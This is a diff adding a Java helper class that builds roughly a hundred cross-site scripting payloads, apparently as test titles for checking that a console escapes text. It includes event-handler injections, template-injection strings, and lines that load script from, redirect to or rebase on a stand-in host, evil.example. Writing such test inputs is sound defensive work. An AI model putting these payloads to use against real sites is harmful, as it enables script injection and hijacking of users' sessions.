@@ -1,0 +1,49 @@
+package dev.streamgauge.console;
+
+import java.util.ArrayList;
+import java.util.List;
+
+/** A hundred titles that would do harm where they are taken for anything but text. */
+final class HostileTexts {
+  private static final String HARM = "alert(1)";
+
+  private static final List<String> TAGS =
+      List.of(
+          "img src=x onerror=",
+          "svg onload=",
+          "body onload=",
+          "input autofocus onfocus=",
+          "details open ontoggle=",
+          "video src=x onerror=",
+          "marquee onstart=",
+          "iframe onload=",
+          "math onmouseover=",
+          "select autofocus onfocus=");
+
+  private static final List<String> ENDS =
+      List.of("", "\">", "'>", "</td>", "</title>", "-->", "]]>", "</textarea>", "</script>");
+
+  private HostileTexts() {}
+
+  static List<String> all() {
+    List<String> texts =
+        new ArrayList<>(
+            List.of(
+                "<script>" + HARM + "</script>",
+                "\"><script src=//evil.example/x.js></script>",
+                "javascript:" + HARM,
+                "\" onmouseover=\"" + HARM,
+                "' onfocus='" + HARM + "' autofocus='",
+                "{{constructor.constructor('" + HARM + "')()}}",
+                "${" + HARM + "}",
+                "<base href=//evil.example/>",
+                "<meta http-equiv=refresh content=0;url=//evil.example>",
+                "&lt;script&gt;" + HARM + "&lt;/script&gt;"));
+    for (String tag : TAGS) {
+      for (String end : ENDS) {
+        texts.add(end + "<" + tag + HARM + ">");
+      }
+    }
+    return texts;
+  }
+}
